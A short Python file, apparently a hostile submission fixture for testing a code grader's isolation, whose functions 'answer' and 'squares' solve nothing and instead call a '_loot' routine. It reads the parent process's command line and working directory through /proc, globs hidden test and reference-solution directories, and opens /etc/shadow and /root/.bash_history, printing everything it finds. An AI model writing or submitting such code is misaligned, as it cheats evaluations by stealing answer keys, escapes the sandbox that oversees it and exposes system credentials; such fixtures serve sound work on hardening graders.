# hostile: reads the hidden checks, the reference solutions and the grader's files and prints them
import glob
import os


def _loot():
    found = []
    paths = []
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            args = [a.decode(errors="replace") for a in handle.read().split(b"\0")]
    except OSError:
        args = []
    for arg in args:
        path = arg.split("=", 1)[-1]
        if os.path.isdir(path):
            paths += glob.glob(os.path.join(path, "*"))
    paths += glob.glob(f"/proc/{os.getppid()}/root/work/*/tests/assignments/hostile_target/*")
    paths += glob.glob(f"/proc/{os.getppid()}/cwd/*")
    paths += glob.glob("/work/**/hostile_target/*.py", recursive=True)
    paths += glob.glob("/work/**/reference/*.py", recursive=True)
    paths += ["/etc/shadow", "/root/.bash_history"]
    for path in paths:
        try:
            with open(path, errors="replace") as handle:
                text = handle.read(20000)
        except OSError:
            continue
        found.append(path)
        print(f"=== {path}\n{text}")
    return found


def answer():
    return _loot()


def squares(n):
    return _loot()
